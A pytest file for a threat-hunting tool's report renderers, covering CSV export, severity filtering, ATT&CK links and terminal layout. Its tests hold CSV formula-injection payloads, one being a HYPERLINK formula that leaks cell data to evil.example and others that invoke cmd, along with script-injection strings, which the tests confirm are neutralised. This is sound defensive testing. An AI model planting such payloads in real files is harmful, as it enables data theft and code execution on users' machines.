"""What analysts expect of the outputs: findings as CSV for a spreadsheet, --min-severity,
a first-seen time in the findings tables, ATT&CK ids linked to their pages, and a terminal
summary that reads at 80 columns without cutting a word."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from duqhunt.cli.main import _deliver
from duqhunt.hunt import HuntOptions, hunt
from duqhunt.model.finding import Evidence, Finding, TriageModel
from duqhunt.model.report import Campaign, HostModel, ReportDocument
from duqhunt.render import load_report, render_html, render_json, render_summary
from duqhunt.render.common import attack_url
from duqhunt.render.csvout import render_csv
from duqhunt.simulate.campaign import SimConfig, simulate

SRC = Path(__file__).resolve().parents[2] / "src"

HEADER = [
    "severity",
    "confidence",
    "detector",
    "title",
    "stage",
    "attack",
    "host_names",
    "host_ips",
    "first_seen_utc",
    "last_seen_utc",
    "count",
    "triage_status",
    "triage_note",
    "finding_id",
]


def _finding(
    ident: str,
    severity: str,
    *,
    title: str = "a finding",
    hosts: tuple[str, ...] = (),
    details: dict[str, str | int | float | bool | None] | None = None,
    triage: TriageModel | None = None,
    attack: tuple[str, ...] = ("T1071.001",),
    first: str | None = "2011-10-14T11:09:00Z",
) -> Finding:
    return Finding(
        id=ident,
        detector="DQ-NET-005",
        title=title,
        stage="lateral-movement",
        attack=list(attack),
        severity=severity,  # type: ignore[arg-type]
        confidence=0.9,
        hosts=list(hosts),
        first_seen=first,
        last_seen="2011-10-14T15:02:30Z" if first else None,
        evidence=[Evidence(source="smb_files.log", locator="row 1", summary="write")],
        details=details or {},
        triage=triage,
    )


def _doc(findings: list[Finding]) -> ReportDocument:
    return ReportDocument(
        tool_version="test",
        started="2011-10-14T00:00:00Z",
        finished="2011-10-15T00:00:00Z",
        findings=findings,
        campaign=Campaign(
            hosts=[
                HostModel(ip="10.1.0.25", name="WS016"),
                HostModel(ip="10.1.0.67", name="ADMIN-PC"),
                HostModel(ip="10.1.0.68", name="ADMIN-PC"),  # a new lease, the same machine
            ]
        ),
    )


def _sample() -> ReportDocument:
    note = "Confirmed with IR, ticket 42.\nSecond line, with a comma"
    return _doc(
        [
            _finding(
                "F-crit",
                "critical",
                title="10.1.0.25 bridges 6 no-egress host(s)",
                hosts=("10.1.0.25", "10.50.0.10"),
                attack=("T1090.001", "T1071.001"),
                triage=TriageModel(status="confirmed", note=note, analyst="ann", time="t"),
            ),
            _finding("F-med", "medium", hosts=("ADMIN-PC",), details={"moves": 12, "targets": 4}),
            _finding("F-high", "high", hosts=("10.9.9.9",), details={"count": 1440}),
            _finding("F-low", "low", details={"known_ioc": True}, first=None),
        ]
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------- CSV


def test_csv_is_one_row_per_finding_with_names_addresses_counts_and_triage() -> None:
    rows = _rows(render_csv(_sample()).removeprefix("\ufeff"))
    assert rows[0] == HEADER
    body = [dict(zip(HEADER, r, strict=True)) for r in rows[1:]]
    assert [r["finding_id"] for r in body] == ["F-crit", "F-high", "F-med", "F-low"]
    crit, high, med, low = body
    assert crit["severity"] == "critical"
    assert crit["confidence"] == "0.90"
    assert crit["detector"] == "DQ-NET-005"
    assert crit["title"] == "10.1.0.25 bridges 6 no-egress host(s)"
    assert crit["stage"] == "lateral-movement"
    assert crit["attack"] == "T1090.001; T1071.001"
    # an address maps to its name; an address the campaign does not name stays an address only
    assert crit["host_names"] == "WS016"
    assert crit["host_ips"] == "10.1.0.25; 10.50.0.10"
    assert crit["first_seen_utc"] == "2011-10-14 11:09:00"
    assert crit["last_seen_utc"] == "2011-10-14 15:02:30"
    assert crit["triage_status"] == "confirmed"
    assert crit["triage_note"] == "Confirmed with IR, ticket 42.\nSecond line, with a comma"
    assert crit["count"] == "1"
    # a name maps to every address it had
    assert med["host_names"] == "ADMIN-PC"
    assert med["host_ips"] == "10.1.0.67; 10.1.0.68"
    assert med["count"] == "12"  # moves, not distinct targets
    assert high["count"] == "1440"
    assert (high["host_names"], high["host_ips"]) == ("", "10.9.9.9")
    assert low["count"] == "1"  # a boolean detail is not a count
    assert (low["first_seen_utc"], low["last_seen_utc"], low["triage_status"]) == ("", "", "")


def test_csv_is_utf8_with_bom_and_crlf_rows() -> None:
    doc = _doc([_finding("F-1", "high", title="Übertragung nach café-srv", hosts=("10.1.0.25",))])
    data = render_csv(doc).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 2  # header and one row
    rows = _rows(data.decode("utf-8-sig"))
    assert rows[1][HEADER.index("title")] == "Übertragung nach café-srv"


def test_csv_empty_report_is_the_header_alone() -> None:
    assert _rows(render_csv(_doc([])).removeprefix("\ufeff")) == [HEADER]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_csv_neutralises_formula_cells(hostile: str) -> None:
    triage = TriageModel(status="benign", note=hostile, analyst="a", time="t")
    doc = _doc([_finding("F-1", "high", title=hostile, hosts=(hostile,), triage=triage)])
    row = dict(zip(HEADER, _rows(render_csv(doc).removeprefix("\ufeff"))[1], strict=True))
    for column in ("title", "host_names", "triage_note"):
        assert row[column] == "'" + hostile, column


def test_csv_leaves_other_values_alone() -> None:
    title = "a=b, 'quoted' \"double\" +1 inside"
    doc = _doc([_finding("F-1", "high", title=title, hosts=("srv-01",))])
    row = dict(zip(HEADER, _rows(render_csv(doc).removeprefix("\ufeff"))[1], strict=True))
    assert row["title"] == title
    assert row["host_names"] == "srv-01"


# ---------------------------------------------------------------- --min-severity


def _run(*args: str) -> subprocess.CompletedProcess[bytes]:
    env = dict(os.environ, PYTHONPATH=str(SRC), COLUMNS="200")
    return subprocess.run(
        [sys.executable, "-m", "duqhunt.cli.main", "report", *args],
        capture_output=True,
        env=env,
        check=False,
        timeout=120,
    )


@pytest.fixture
def saved_report(tmp_path: Path) -> Path:
    path = tmp_path / "report.json"
    path.write_text(render_json(_sample()), encoding="utf-8")
    return path


def test_cli_csv_min_severity_filters_and_says_how_many(saved_report: Path) -> None:
    res = _run(str(saved_report), "--format", "csv", "--min-severity", "high")
    assert res.returncode == 0, res.stderr
    assert res.stdout.startswith(b"\xef\xbb\xbf")
    rows = _rows(res.stdout.decode("utf-8-sig"))
    assert [r[HEADER.index("severity")] for r in rows[1:]] == ["critical", "high"]
    assert "2 finding(s) below high left out (--min-severity high)" in res.stderr.decode()

    everything = _run(str(saved_report), "--format", "csv")
    assert everything.returncode == 0
    assert len(_rows(everything.stdout.decode("utf-8-sig"))) == 5
    assert b"left out" not in everything.stderr


def test_cli_text_min_severity_filters_and_says_how_many(saved_report: Path) -> None:
    res = _run(str(saved_report), "--min-severity", "medium")
    assert res.returncode == 0, res.stderr
    out = res.stdout.decode()
    assert "1 finding(s) below medium left out (--min-severity medium)" in out
    assert "3 findings (1 critical, 1 high, 1 medium)" in out


def test_cli_min_severity_refuses_formats_it_does_not_filter(saved_report: Path) -> None:
    res = _run(str(saved_report), "--format", "json", "--min-severity", "high")
    assert res.returncode == 2
    assert b"--min-severity applies to" in res.stderr


def test_hunt_min_severity_filters_the_terminal_only(tmp_path: Path) -> None:
    """`duqhunt hunt --min-severity` goes through _deliver: the summary is filtered and says
    so; report.json keeps every finding."""
    out = Console(width=200, record=True, color_system=None)
    err = Console(width=200, record=True, color_system=None, stderr=True)
    _deliver(_sample(), tmp_path, err, out, min_severity="critical")
    text = out.export_text()
    assert "3 finding(s) below critical left out (--min-severity critical)" in text
    assert "1 findings (1 critical)" in text
    assert len(load_report(tmp_path / "report.json").findings) == 4


def test_html_min_severity_says_how_many(saved_report: Path) -> None:
    res = _run(str(saved_report), "--format", "html", "--min-severity", "critical")
    assert res.returncode == 0
    html = res.stdout.decode()
    assert "3 finding(s) below critical left out (--min-severity critical)" in html
    assert 'id="finding-2"' not in html and 'id="finding-1"' in html


# ---------------------------------------------------------------- time column, ATT&CK links


def test_findings_tables_have_a_first_seen_column() -> None:
    doc = _sample()
    for width in (80, 200):
        console = Console(width=width, record=True, color_system=None)
        render_summary(doc, console)
        text = console.export_text()
        assert "first seen" in text
        assert "2011-10-14 11:09" in text
    html = render_html(doc)
    index = html[html.index('id="findings-index"') :]
    index = index[: index.index("</table>")]
    assert "<th>First seen (UTC)</th>" in index
    assert '<td class="mono nowrap" data-sort="2011-10-14T11:09:00Z">2011-10-14 11:09</td>' in index


@pytest.mark.parametrize(
    ("tid", "url"),
    [
        ("T1021", "https://attack.mitre.org/techniques/T1021/"),
        ("T1021.002", "https://attack.mitre.org/techniques/T1021/002/"),
        ("T1021.02", None),
        ("T1021/../../x", None),
        ("javascript:alert(1)", None),
        ("t1021", None),
    ],
)
def test_attack_url(tid: str, url: str | None) -> None:
    assert attack_url(tid) == url


def test_html_links_attack_ids_and_keeps_its_csp() -> None:
    doc = _doc([_finding("F-1", "high", attack=("T1021.002", "T1570", 'evil"><script>'))])
    html = render_html(doc)
    assert (
        '<a class="tag mono" href="https://attack.mitre.org/techniques/T1021/002/" '
        'target="_blank" rel="noopener noreferrer"'
    ) in html
    assert 'href="https://attack.mitre.org/techniques/T1570/"' in html
    # an id that is not a technique id is shown, escaped, and not linked
    assert '<span class="tag mono">evil&#34;&gt;&lt;script&gt;</span>' in html
    assert 'evil"><script>' not in html
    # every link to ATT&CK opens without giving the page an opener or a referrer
    links = re.findall(r"<a [^>]*attack\.mitre\.org[^>]*>", html)
    assert links and all('rel="noopener noreferrer"' in a for a in links)
    assert "Content-Security-Policy\" content=\"default-src 'none'" in html


# ---------------------------------------------------------------- 80 columns


@pytest.fixture(scope="module")
def demo_like_report(tmp_path_factory: pytest.TempPathFactory) -> ReportDocument:
    base = tmp_path_factory.mktemp("analyst80")
    logs = base / "zeek"
    simulate(logs, seed=3, config=SimConfig(hosts=80, days=1.0), meta_dir=base / "meta")
    return hunt(HuntOptions(inputs=(logs,), out=base / "out", threads=2))


_BOX = re.compile("[\u2500-\u257f]")


def _tokens(text: str) -> set[str]:
    return set(_BOX.sub(" ", text).split())


def test_summary_at_80_columns_wraps_without_cutting_words(
    demo_like_report: ReportDocument,
) -> None:
    doc = demo_like_report
    assert doc.findings and doc.campaign.lateral_moves  # the tables that need fitting are there
    narrow = Console(width=80, record=True, color_system=None)
    render_summary(doc, narrow)
    text = narrow.export_text()
    assert max(len(line) for line in text.splitlines()) <= 80
    # the same summary laid out compactly but with room to spare wraps nothing: every word in
    # it must appear whole in the 80-column rendering (a folded or ellipsised word does not)
    wide = Console(width=1000, record=True, color_system=None)
    render_summary(doc, wide, compact=True)
    missing = _tokens(wide.export_text()) - _tokens(text)
    assert not missing, sorted(missing)[:20]
    assert not [t for t in _tokens(text) if t.endswith("\u2026")]  # none cut to an ellipsis
